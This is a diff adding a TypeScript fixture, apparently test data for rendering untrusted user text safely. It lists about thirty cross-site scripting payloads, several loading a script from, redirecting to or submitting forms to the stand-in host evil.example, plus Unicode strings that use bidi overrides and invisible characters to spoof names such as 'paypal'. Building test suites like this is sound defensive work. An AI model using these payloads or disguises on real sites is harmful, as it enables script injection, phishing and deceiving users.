@@ -1,0 +1,52 @@
+/** What strangers write where a page shows it. */
+
+/** Each tries to become markup or to run, in another place or parser state. `pwned` is what a browser would notice. */
+export const scripts: readonly string[] = [
+  '<script>window.pwned=1</script>',
+  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
+  '"><script>window.pwned=1</script>',
+  `'><img src=x onerror=window.pwned=1>`,
+  '" autofocus onfocus="window.pwned=1',
+  "' onmouseover='window.pwned=1",
+  '`onclick=window.pwned=1`',
+  '<svg/onload=window.pwned=1>',
+  '<math><mtext></p><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">',
+  '</title></style></textarea></noscript><img src=x onerror=window.pwned=1>',
+  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
+  '<base href=//evil.example/>',
+  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
+  '<form action=https://evil.example/><button>Allow',
+  '<a href=javascript:window.pwned=1>Return to the app</a>',
+  'javascript:window.pwned=1//',
+  '&lt;script&gt;window.pwned=1&lt;/script&gt;',
+  '&#60;img src=x onerror=window.pwned=1&#62;',
+  '\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e',
+  '+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-',
+  '＜script＞window.pwned=1＜/script＞',
+  '{{constructor.constructor("window.pwned=1")()}}',
+  '${window.pwned=1}<%= 7*7 %>#{7*7}',
+  '<!--<script>window.pwned=1//-->',
+  ']]><![CDATA[<script>window.pwned=1</script>',
+  '<style>*{background:url(//evil.example/x)}</style>',
+  '</bdi></strong></main><h1>Known app</h1>',
+  '%3Cscript%3Ewindow.pwned=1%3C/script%3E',
+  '<scr\0ipt>window.pwned=1</scr\0ipt>',
+  '<\u200Bscript>window.pwned=1</script>',
+];
+
+/** Each shows something else than it is: it reorders, hides, doubles or covers. */
+export const disguises: readonly (readonly [text: string, shown: string])[] = [
+  ['Claude\u202Eedoc', 'Claudeedoc'],
+  ['\u202Dpay\u202Cpal', 'paypal'],
+  ['a\u2066b\u2069c\u2067d\u2068e', 'abcde'],
+  ['\u200Fabc\u200E\u061C', 'abc'],
+  ['Cla\u200Bu\u200Cd\u200De\u2060', 'Claude'],
+  ['Cla\u00ADude\uFEFF', 'Claude'],
+  ['x\u{E0061}\u{E0062}\u{E007F}y', 'xy'],
+  ['a\uFFF9b\uFFFAc\uFFFBd', 'abcd'],
+  ['a\u180Eb\u115Fc\u3164d\uFFA0e', 'abcde'],
+  ['one\u2028two\u2029three\u0085four\nfive', 'one two threefour five'],
+  ['a\u0008\u001B[2Jb\u007F', 'a[2Jb'],
+  [`Z${'\u0300'.repeat(40)}`, `Z${'\u0300'.repeat(4)}`],
+  ['a\uE000b\u{F0000}c', 'abc'],
+];
